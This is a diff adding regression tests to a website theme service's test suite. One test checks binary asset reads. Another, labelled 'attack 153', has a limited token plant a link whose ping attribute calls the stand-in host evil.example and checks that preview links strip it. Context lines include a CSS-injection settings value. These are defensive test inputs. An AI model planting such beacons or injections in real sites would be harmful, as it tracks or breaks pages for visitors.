@@ -95,6 +95,14 @@ test('a file that is edited in the folder is taken up, and one that would fail s
   await writeFile(broken, good)
 })
 
+test('a file with bytes that is put into the folder is taken up byte by byte', async () => {
+  const bytes = Buffer.from('474946383961010001008000ff', 'hex')
+  await site.call('SVC_Themes.list')
+  await writeFile(join(site.home, 'user-content', 'themes', 'mine', 'assets', 'dot.gif'), bytes)
+  const read = () => site.call('SVC_Themes.read', { id: 'mine', file: 'assets/dot.gif' }).catch(() => undefined)
+  await until('it is taken up', async () => (await read())?.bytes === bytes.length)
+})
+
 test('settings are checked by their type and reach the page', async () => {
   for (const [settings, expected] of [
     [{ accent: 'red; } body { display: none' }, /must be a colour/],
@@ -214,6 +222,18 @@ test('attack 153: what a limited token hides from the check of the source is in 
   assert.equal((await site.api('SVC_Themes.write', { id: 'mine', file, text: '<p>last</p>' }, { token })).json.success, true)
   await site.call('SVC_Themes.revert', { id: 'mine', file, revision: 1 })
   assert.doesNotMatch(await page(), /nclick|e\.js/)
+})
+
+test('attack 153: a link to an earlier state of a theme leaves out what its writer may not write, though the owner wrote the file since', async () => {
+  const limits = { classes: ['SVC_Themes'] }
+  const { token } = await site.call('SVC_Tokens.create', { name: 'earlier designer', scope: 'admin', limits })
+  const file = { id: 'mine', file: 'partials/hidden.liquid' }
+  const sly = '<a class="h" href="/" ping="https://evil.example/">earlier</a>'
+  assert.equal((await site.api('SVC_Themes.write', { ...file, text: sly }, { token })).json.success, true)
+  const { url } = await site.call('SVC_Themes.preview', { id: 'mine', path: '/about' })
+  await site.call('SVC_Themes.write', { ...file, text: '<p>By the owner</p>' })
+  const shown = (await site.send(new URL(url).pathname, { token: null })).text
+  assert.match(shown, /<a class="h" href="\/">earlier<\/a>/)
 })
 
 test('the active theme is not deleted, another one is, and undo brings it back with its files', async () => {
